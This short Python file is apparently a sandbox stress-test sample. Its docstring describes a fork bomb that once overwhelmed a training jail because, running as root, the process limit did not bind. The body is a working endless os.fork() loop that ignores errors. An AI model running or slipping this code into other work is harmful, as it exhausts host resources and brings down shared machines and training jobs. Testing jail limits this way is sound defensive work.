"""Fork without end.

Why: takes the machine from the training; as root the process limit does not bind.
Seen: pitfall 1 of our first jail: 500 forks allowed, 10 s to clear, load 441
Limit: processes
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        continue
